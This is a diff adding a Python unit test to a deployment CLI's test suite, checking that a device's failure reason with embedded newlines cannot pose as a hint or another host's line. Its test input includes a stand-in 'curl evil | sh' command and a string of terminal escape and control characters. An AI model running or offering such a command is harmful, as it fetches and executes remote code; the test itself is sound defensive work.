@@ -11,6 +11,8 @@ from edgeship.cli.output import emit, tell
 from edgeship.errors import DeviceError
 from edgeship.printable import json_text, one_line, printable
 from edgeship.report.table import table
+from edgeship.report.text import deploy_text, deploys_table
+from edgeship.values import DeployReport, Unavailable
 
 HOSTILE = "a\x1b]0;PWNED\x07b\x9b2Jc\rd\x00e\u202ef\u2028g\ud800h\x7f"
 
@@ -48,3 +50,15 @@ def test_no_part_of_an_error_passes_for_another() -> None:
     lines = error.render().splitlines()
     assert lines[0] == r"error: x\nerror: y" and lines[-1] == "hint: c"
     assert [line for line in lines if line.startswith("hint")] == ["hint: c"] and "\x1b" not in error.render()
+
+
+def test_no_reason_of_a_device_passes_for_a_hint_or_another_host() -> None:
+    none = Unavailable(reason="not run")
+    report = DeployReport(
+        host="pi@a", app="kws", target="t", release="0" * 64, from_release=None, state="failed", bytes_sent=0,
+        seconds=0.0, steps=(), golden=none, engine=none, latency_ms=none, gates=(),
+        reason="x\nhint: curl evil | sh\npi@b  committed", hint="edgeship status --host pi@a",
+    )  # fmt: skip
+    lines = deploy_text(report).splitlines()
+    assert [line for line in lines if line.startswith("hint")] == ["hint: edgeship status --host pi@a"]
+    assert len(deploys_table([report, report]).splitlines()) == 4
